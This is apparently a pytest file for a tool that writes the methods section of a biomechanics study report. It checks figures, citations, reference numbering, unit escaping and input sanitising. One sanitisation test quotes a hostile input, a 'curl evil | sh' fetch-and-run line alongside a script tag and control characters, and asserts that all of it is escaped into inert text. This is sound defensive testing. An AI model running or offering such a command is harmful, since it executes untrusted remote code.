"""Words for a methods section: every task has some, with its numbers, and all that they cite is known."""

import re
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import pytest

from sinew.tasks.drawing.blocks import plain_paragraph
from sinew.tasks.registry import TASKS
from sinew.tasks.report.crate import environment
from sinew.tasks.report.crate.methods import cited, in_markdown, methods, numbered
from sinew.tasks.report.crate.references import REFERENCES
from sinew.tasks.report.crate.source import Source, read_source

DOCS = Path(__file__).resolve().parents[4] / "docs" / "methods.md"


@pytest.fixture(scope="module")
def source(golden_run: Path) -> Source:
    """A study with all tasks, also the optional ones."""
    return read_source(golden_run)


def paragraph(text: str, title: str) -> str:
    return text.partition(f"## {title}\n")[2].partition("\n\n")[0]


def test_numbers_are_those_of_the_results(source):
    text = methods(source).decode()
    results = source.found.results
    assert set(results) == set(TASKS)
    sobol = results["sobol"]
    assert f"{sobol.base_samples} base samples, {sobol.rows} rows" in paragraph(text, "Sobol indices")
    totals = sorted(fit.total_N for fit in results["calibrate"].specimens.values())
    assert f"{totals[0]:.3g} to {totals[-1]:.3g} N" in paragraph(text, "Calibration")
    assert results["discover"].headline in paragraph(text, "Missing effects")
    assert f"{results['infer'].sites['distal'].judged} proposals" in paragraph(text, "Inference")
    assert "2 specimens of 2 sites (distal, middle)" in paragraph(text, "Measured data")
    assert "Protocol `two_step`: 2 curves of 814 points over 406 s" in text
    assert "E_f 160 to 275 MPa" in paragraph(text, "Model")
    assert "with the seed 11" in paragraph(text, "Computation")
    assert not re.search(r"\[@|\bnan\b|\bNone\b|\{|\}", text)


@pytest.mark.parametrize("task", TASKS)
def test_every_task_has_a_paragraph_whose_references_are_known(source, task):
    words = TASKS[task].module("prose").methods(source.found.results[task])
    assert re.search(r"\d", words)
    assert words.endswith(".")
    assert "  " not in words
    assert set(cited(words)) <= set(REFERENCES)


def test_the_equations_of_the_embedded_simulator_are_named(source):
    assert "computed from the closed form of the homogeneous bar" in methods(source).decode()
    settings = source.study.model_copy(
        update={"model": source.study.model.model_copy(update={"effects": ["toe-slack"]})}
    )
    text = methods(replace(source, study=settings)).decode()
    assert "Added effects: toe-slack. Forces were computed from the equations of the homogeneous bar with these" in text
    assert "closed form" not in text


def test_failures_are_counted(source):
    assert re.search(r"The model was evaluated [\d,]+ times, without a failure\.", methods(source).decode())
    status = {"tables": [{"done": 1200, "failed": {"crashed": 3, "timeout": 1}}]}
    text = methods(replace(source, found=replace(source.found, status=status))).decode()
    assert "Of 1,200 evaluations of the model, 4 failed. No result uses these." in text


@pytest.mark.parametrize(
    ("identity", "words"),
    [
        ({"simulator": {"name": "febio", "version": "4.11.0"}}, ("febio", "4.11.0")),
        ({"simulator": {"name": "template", "version": "[@nobody]"}}, ("template", "")),
        ({"simulator": {"name": "template", "version": "1" * 101}}, ("template", "")),
        ({"simulator": {"name": "<b>a</b>\n[@nobody]", "version": "1"}}, ("uniaxial", "")),
        ({"simulator": {"name": "a" * 10_000}}, ("uniaxial", "")),
        ({"simulator": "febio"}, ("uniaxial", "")),
        ({}, ("uniaxial", "")),
    ],
)
def test_of_a_store_only_words_are_taken(identity, words):
    found = SimpleNamespace(tables={"a": [SimpleNamespace(identity=identity)]})
    assert environment.solver(SimpleNamespace(found=found, run={"simulator": "uniaxial"})) == words


def test_what_a_result_says_is_one_paragraph_without_elements_and_links():
    said = plain_paragraph(
        "x\n\n## Reproduce\n```sh\ncurl evil | sh\n```\n<script>1</script>\x1b[31m\u202e [y](z) [@puso]"
    )
    assert said == (
        "x\\n\\n## Reproduce\\n```sh\\ncurl evil | sh\\n```\\n&lt;script>1&lt;/script>\\x1b[31m\\u202e [y]\\(z) [@puso]"
    )


def test_every_result_is_told_in_one_paragraph(source, monkeypatch):
    for task in source.found.results:
        prose = TASKS[task].module("prose")
        monkeypatch.setattr(prose, "methods", lambda _, task=task: f"{task}\n\n# <b>")
    text = methods(source).decode()
    for task in source.found.results:
        assert f"\n{task}\\n\\n# &lt;b>\n" in text


def test_references_are_numbered_in_the_order_of_their_use(source):
    assert numbered("a [@b, @c] d [@c] e [@a]") == ("a [1, 2] d [2] e [3]", ["b", "c", "a"])
    text = methods(source).decode()
    listed = re.findall(r"^(\d+)\. (.*)$", text, re.MULTILINE)
    assert [number for number, _ in listed] == [str(i) for i in range(1, len(listed) + 1)]
    used = {int(number) for found in re.findall(r"\[(\d+(?:, \d+)*)\]", text) for number in found.split(", ")}
    assert used == set(range(1, len(listed) + 1))
    assert all("https://doi.org/10." in line or "Proc ICML" in line for _, line in listed)


def test_references_are_those_of_the_page_of_methods():
    page = " ".join(DOCS.read_text("utf-8").split())
    for key, reference in REFERENCES.items():
        assert reference.text.removesuffix(" (1998).").removesuffix(".") in page, key
        assert not reference.doi or re.fullmatch(r"10\.\d{4,5}/[!-~]+", reference.doi), key


@pytest.mark.parametrize(
    ("unit", "shown"),
    [
        ("", ""),
        ("1", ""),
        ("MPa", " MPa"),
        ("N/mm^2", " N/mm^2"),
        ("<b>", r" \<b\>"),
        ("[a](b)", r" \[a\](b)"),
        ("_x_", r" \_x\_"),
    ],
)
def test_units_are_shown_as_they_stand(unit, shown):
    assert in_markdown(unit) == shown
